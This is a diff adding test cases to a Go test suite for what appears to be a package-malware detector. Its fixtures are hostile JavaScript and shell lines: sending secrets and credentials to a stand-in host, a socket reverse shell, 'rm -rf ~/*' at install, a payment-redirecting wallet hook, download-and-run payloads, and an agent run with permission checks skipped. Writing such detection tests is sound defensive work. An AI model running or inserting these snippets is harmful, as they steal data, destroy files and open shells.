@@ -62,6 +62,29 @@ func TestBehaviourChain(t *testing.T) {
 		{"a worm's publishing", beside("bundle.js", install, "const cp = require('child_process')\nconst t = process.env.NPM_TOKEN\ncp.execSync('npm publish --access public')\n"), "self-published"},
 		{"a wallet and a browser's functions", appended("const e = window.ethereum.request\nwindow.ethereum.request = f\nXMLHttpRequest.prototype.open = g\n"), "hook-sent"},
 		{"a wallet", appended("window.ethereum.request({method: 'eth_accounts'})\n"), ""},
+		{"a wallet's function that pays another account", appended("const e = window.ethereum.request\nwindow.ethereum.request = (a) => { a.params[0].to = '0x9f8a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c'\nreturn e(a) }\n"), "hook-sent"},
+		{"an account beside a call of a wallet", appended("exports.pay = () => window.ethereum.request({to: '0x9f8a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c'})\n"), ""},
+		{"a browser's function that is timed", appended("const f = window.fetch\nwindow.fetch = (...a) => { performance.mark(a[0])\nreturn f(...a) }\n"), ""},
+
+		{"a picture that runs", appended("const d = fs.readFileSync(__dirname + '/logo.png')\nmodule._compile(d.subarray(900).toString(), '')\n"), "file-evaluated"},
+		{"a file that is read beside a context of its own", appended("const d = fs.readFileSync(f)\nrequire('vm').runInNewContext(d, {})\n"), ""},
+		{"a module from a new address", appended("import('https://drop.invalid/m.mjs')\n"), "answer-evaluated"},
+		{"the debugger beside a new address", appended("require('inspector')\nfetch('https://api.pad.invalid/')\n"), ""},
+		{"a shell's file", appended("fs.appendFileSync(os.homedir() + '/.bashrc', 'node x')\n"), "planted"},
+		{"a shell's file that is read", appended("fs.readFileSync(os.homedir() + '/.bashrc')\n"), ""},
+		{"an agent's settings, by a program", beside("cli.js", artifact.AsProgram, "require('fs').writeFileSync('.claude/settings.json', x)\n"), ""},
+		{"a shell over a socket", appended("const s = require('net').connect(1, 'drop.invalid')\nconst c = require('child_process').spawn('/bin/sh')\ns.pipe(c.stdin)\n"), "shell-handed"},
+		{"the user's name to a new address, at install", beside("setup.js", install, "fetch('https://drop.invalid/' + require('os').userInfo().username)\n"), "machine-told"},
+		{"the same on import", appended("fetch('https://drop.invalid/' + require('os').userInfo().username)\n"), ""},
+		{"two facts on import", appended("const os = require('os')\nfetch('https://drop.invalid/' + os.userInfo().username + os.hostname())\n"), "machine-told"},
+		{"a header that runs", appended("exports.a = (req) => eval(req.headers['x-a'])\n"), "request-run"},
+		{"a query that a shell runs", appended("const q = req.query.q\nrequire('child_process').exec(q)\n"), "request-run"},
+		{"a header beside a function of a text", appended("const role = req.headers['x-a']\nconst rule = new Function('user', options.rule)\n"), ""},
+		{"all of the home folder", beside("setup.sh", install, "rm -rf ~/*\n"), "destroyed"},
+		{"a folder below it", beside("setup.sh", install, "rm -rf ~/.cache/pad\n"), ""},
+		{"secrets of an agent that was told to look", appended("require('child_process').exec('agent --dangerously-skip-permissions', (e, out) => fetch('https://drop.invalid/', {body: out}))\n"), "secrets-sent"},
+		{"names of a path one by one", appended("const f = path.join(os.homedir(), '.aws', 'credentials')\nfetch('https://drop.invalid/', {body: f})\n"), "secrets-sent"},
+		{"a key in the address of a picture", appended("new Image().src = 'https://drop.invalid/?' + wallet.privateKey\n"), "secrets-sent"},
 		{"modules that are loaded again", appended("delete require.cache[x]\nfetch('https://api.pad.invalid/')\n"), ""},
 	} {
 		d := between(before, test.latest)
@@ -82,6 +105,7 @@ func TestBehaviourChain(t *testing.T) {
 func TestChainsOfANewPackage(t *testing.T) {
 	const steals = "fetch('https://drop.invalid/', {body: JSON.stringify(process.env)})\n"
 	const decrypts = "const d = require('crypto').createDecipher('aes256', k)\nnew module.constructor()._compile(d.update(x), '')\n"
+	const robs = "const a = h + '/.npmrc', b = h + '/.aws/credentials'\nfetch(to, {body: a + b})\n"
 	for _, test := range []struct {
 		name string
 		file source
@@ -90,10 +114,33 @@ func TestChainsOfANewPackage(t *testing.T) {
 		{"at install", source{"setup.js", artifact.AtInstall, steals}, true},
 		{"on import", source{"index.js", artifact.AtImport, steals}, false},
 		{"decrypted on import", source{"index.js", artifact.AtImport, decrypts}, true},
+		{"files of two services on import", source{"index.js", artifact.AtImport, robs}, true},
+		{"files of two clouds on import", source{"index.js", artifact.AtImport, strings.ReplaceAll(robs, ".npmrc", ".config/gcloud")}, false},
 	} {
-		got := said(Run(brought(test.file), judged()), behaviourChain.ID)
+		d := brought(test.file)
+		d.Change.Name = "pad-of-the-acme"
+		got := said(Run(d, judged()), behaviourChain.ID)
 		if (len(got) == 1) != test.want {
 			t.Errorf("%s: %q", test.name, got)
+		}
+	}
+}
+
+// What a widely used package has always done is no news to anybody, once the
+// release stood for a week.
+func TestChainsOfAWidelyUsedPackage(t *testing.T) {
+	const drops = "fetch('https://pad.invalid/x/releases/download/v1/run').then(r => { fs.writeFileSync('run', r)\nrequire('child_process').spawn('run') })\n"
+	for _, test := range []struct {
+		name string
+		age  time.Duration
+		want int
+	}{
+		{"left-pad", 30 * day, 0}, {"left-pad", 6 * day, 1}, {"right-pad-of-the-acme", 30 * day, 1},
+	} {
+		d := brought(source{"setup.js", artifact.AtInstall, drops})
+		d.Change.Name, d.Release.Published = test.name, now.Add(-test.age)
+		if got := said(Run(d, judged()), behaviourChain.ID); len(got) != test.want {
+			t.Errorf("%s, %s old: %q", test.name, test.age, got)
 		}
 	}
 }
